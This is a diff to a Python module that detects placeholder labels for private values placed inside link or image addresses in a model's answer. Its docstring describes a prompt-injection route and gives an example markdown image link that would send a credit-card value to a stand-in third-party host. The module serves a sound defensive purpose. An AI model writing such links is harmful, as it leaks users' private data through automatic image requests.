@@ -1,15 +1,15 @@
 """Detects positions of an answer that are inside the address of a link or an image.
 
 A client that renders an answer requests the addresses of its images without a click. A model that obeys instructions in
-a text could write `![](https://elsewhere.example/?c=[CREDIT_CARD_1])`. If the label were replaced by the value there,
-the client's request would send the value to a third party.
+a text could write `![](https://elsewhere.example/?c=[CREDIT_CARD_1])`. If the placeholder `[CREDIT_CARD_1]`
+were replaced by the value there, the client's request would send the value to a third party.
 """
 
 import re
 from typing import Final
 
-#: Number of characters before a position that are searched for the start of an address. Servers accept no longer
-#: addresses.
+#: Number of characters before a position that are searched for the start of an address. Servers do not accept addresses
+#: longer than this.
 MAX_ADDRESS_CHARACTERS: Final = 8192
 _TAG: Final = re.compile("<[A-Za-z]")
 
